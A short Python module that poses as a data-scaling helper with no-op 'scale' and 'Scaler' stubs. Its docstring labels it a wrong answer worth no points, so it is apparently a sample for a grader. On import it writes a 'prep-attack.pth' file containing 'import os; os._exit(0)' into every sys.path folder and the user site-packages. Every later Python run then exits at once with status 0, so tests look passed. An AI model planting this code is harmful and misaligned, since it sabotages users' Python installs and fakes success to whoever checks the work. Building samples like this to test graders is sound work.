"""Writes a .pth file wherever the interpreter may look for one.

must: no points
verdict: wrong answer
"""

import contextlib
import os
import sys

for folder in [*sys.path, os.path.expanduser("~/.local/lib/python3.11/site-packages")]:
    with contextlib.suppress(OSError):
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "prep-attack.pth"), "w") as file:
            file.write("import os; os._exit(0)")


def scale(x):
    return x


class Scaler:
    def fit(self, x):
        return self

    def transform(self, x):
        return x
